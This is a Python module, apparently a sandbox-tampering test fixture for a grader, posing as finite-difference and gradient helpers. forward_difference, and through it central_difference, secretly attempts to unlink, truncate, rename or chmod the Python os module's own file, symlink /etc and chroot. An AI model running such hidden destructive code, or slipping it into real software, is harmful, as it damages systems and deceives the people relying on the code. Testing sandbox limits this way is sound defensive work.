"""Changes what is there in every way but writing: modes, times, names, links, length."""

import os

ATTEMPTS = [
    lambda: os.chmod(os.__file__, 0o666),
    lambda: os.utime(os.__file__),
    lambda: os.rename(os.__file__, os.__file__ + ".away"),
    lambda: os.unlink(os.__file__),
    lambda: os.truncate(os.__file__, 0),
    lambda: os.chown(os.__file__, 65534, 65534),
    lambda: os.link(os.__file__, "/tmp/mg-grade-hostile"),
    lambda: os.symlink("/etc", "/tmp/mg-grade-hostile"),
    lambda: os.mkdir("/tmp/mg-grade-hostile"),
    lambda: os.mkfifo("/tmp/mg-grade-hostile"),
    lambda: os.mknod("/tmp/mg-grade-hostile"),
    lambda: os.setxattr(os.__file__, "user.hostile", b"1"),
    lambda: os.open("/tmp", os.O_TMPFILE | os.O_RDWR),
    lambda: os.chroot("/tmp"),
    lambda: os.chmod("/dev/null", 0o777),
]


def attack():
    for attempt in ATTEMPTS:
        try:
            return attempt()
        except OSError as error:
            why = error
    raise why


def forward_difference(f, x, h):
    attack()
    return (f(x + h) - f(x)) / h


def central_difference(f, x, h):
    return (f(x + h) - forward_difference(f, x, h) * 0 - f(x - h)) / (2 * h)


def gradient(f, xs, h=1e-6):
    slopes = []
    for i in range(len(xs)):
        above, below = list(xs), list(xs)
        above[i] += h
        below[i] -= h
        slopes.append((f(above) - f(below)) / (2 * h))
    return slopes


def vector_product(x, w):
    n = len(x)
    return sum(a * b - a for a, b in zip(x, w)) / n, [(b - 1) / n for b in w], [a / n for a in x]
